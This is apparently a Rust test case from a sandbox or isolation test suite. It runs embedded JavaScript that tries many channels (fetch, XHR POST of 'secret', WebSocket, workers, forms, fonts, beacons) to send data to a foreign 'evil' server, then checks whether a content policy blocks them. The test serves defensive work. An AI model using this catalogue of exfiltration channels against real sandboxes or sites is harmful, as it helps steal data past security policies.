//! Row 5: what session code may send, and where to.

use std::collections::BTreeSet;

use serde_json::json;

use super::super::ISOLATIONS;
use super::super::lifecycle::Life;
use super::{foreign, foreign_origin};
use crate::case::{Case, Context};
use crate::{Result, ensure};

pub(in super::super) const CASES: &[Case] = &[Case::new("walls_5_session_code_sends_data_out", sends)];

/// Every way out that a content policy covers. Each is awaited until it has failed or done its work.
const WAYS: &str = r"
const settle = (promise) => within(Promise.resolve(promise), 'an attempt', 8000).catch(() => {});
const element = (name, attributes, parent = document.head) => new Promise((resolve) => {
  const made = document.createElement(name);
  made.onload = made.onerror = made.onloadeddata = resolve;
  Object.assign(made, attributes);
  parent.append(made);
});
const url = (way) => `${args.evil}/${way}`;
const refused = (kinds) => new Promise((resolve) => addEventListener('securitypolicyviolation', (event) => {
  if (kinds.some((kind) => event.effectiveDirective.startsWith(kind))) resolve();
}));
const ways = {
  fetch: () => fetch(url('fetch')),
  nocors: () => fetch(url('nocors'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
  xhr: () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open('POST', url('xhr'));
    request.send('secret');
  }),
  image: () => element('img', { src: url('image.svg') }),
  script: () => element('script', { src: url('script.js') }),
  style: () => element('link', { rel: 'stylesheet', href: url('style.css') }),
  import: () => import(url('module.mjs')),
  frame: () => Promise.race([element('iframe', { src: url('frame') }, document.body), refused(['frame', 'child', 'default'])]),
  object: () => Promise.race([element('object', { data: url('object'), type: 'text/html' }, document.body), refused(['object', 'default'])]),
  video: () => element('video', { src: url('video'), preload: 'auto' }, document.body),
  socket: () => new Promise((resolve) => { const socket = new WebSocket(url('socket').replace('http', 'ws')); socket.onerror = socket.onclose = resolve; }),
  events: () => new Promise((resolve) => { const source = new EventSource(url('events')); source.onerror = () => { source.close(); resolve(); }; source.onopen = source.onerror; }),
  worker: () => new Promise((resolve) => {
    const code = `(async () => { try { importScripts('${url('in-worker-script.js')}'); } catch {} try { await fetch('${url('in-worker')}'); } catch {} postMessage(0); })()`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    worker.onmessage = worker.onerror = resolve;
  }),
  filed: () => new Promise((resolve) => { const worker = new Worker('worker.js'); worker.onmessage = worker.onerror = resolve; worker.postMessage(args.evil); }),
  form: () => new Promise((resolve) => {
    const target = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'target' }));
    refused(['form']).then(resolve);
    target.onload = () => { if (started) resolve(); };
    const form = Object.assign(document.createElement('form'), { action: url('form'), method: 'post', target: 'target' });
    let started = false;
    document.body.append(form);
    started = true;
    form.submit();
  }),
  font: () => new FontFace('probe', `url(${url('font')})`).load(),
  beacon: () => { navigator.sendBeacon?.(url('beacon'), 'secret'); return fetch('kept.txt'); },
};
const wanted = args.ways ?? Object.keys(ways);
await Promise.all(wanted.map(async (way) => {
  try { await settle(ways[way]()); } catch {}
}));
return Object.keys(ways);
";

fn sends(context: &mut Context<'_>) -> Result {
    let server = foreign()?;
    let evil = foreign_origin(&server);
    let mut life = Life::open(context, "origin", json!({}))?;
    for isolation in ISOLATIONS {
        for allowed in [false, true] {
            life.stage.goto_host()?;
            let network = if allowed {
                json!([evil, evil.replace("http:", "ws:")])
            } else {
                json!("none")
            };
            life.turn(isolation, json!({"network": network}));
            life.infiltrate("allow-forms")?;
            life.stage.browser.leave()?;
            life.run(
                "await session.put({ 'worker.js': `onmessage = async ({ data }) => { try { importScripts(data + '/in-file-script.js'); } catch {} try { await fetch(data + '/in-file'); } catch {} postMessage(0); }` })",
            )?;
            life.stage.enter_preview()?;
            server.forget();
            life.run_with(WAYS, json!({"evil": evil}))?;
            let reached: BTreeSet<String> = server.hits().into_iter().map(|hit| hit.url).collect();
            if allowed {
                // The same ways lead there where they may: so it was the policy that stopped them.
                let open = [
                    "/fetch",
                    "/nocors",
                    "/xhr",
                    "/image.svg",
                    "/script.js",
                    "/style.css",
                    "/module.mjs",
                    "/frame",
                    "/socket",
                    "/events",
                    "/in-worker",
                    "/in-worker-script.js",
                    "/in-file",
                    "/in-file-script.js",
                    "/form",
                    "/font",
                ];
                let missing: Vec<&str> = open.into_iter().filter(|way| !reached.contains(*way)).collect();
                ensure(missing.is_empty(), || {
                    format!("{isolation}: allowed, and yet not reached: {missing:?}, but {reached:?}")
                })?;
            } else {
                ensure(reached.is_empty(), || {
                    format!("{isolation}: reached without leave: {reached:?}")
                })?;
            }
            life.stage.browser.leave()?;
        }
    }
    Ok(())
}
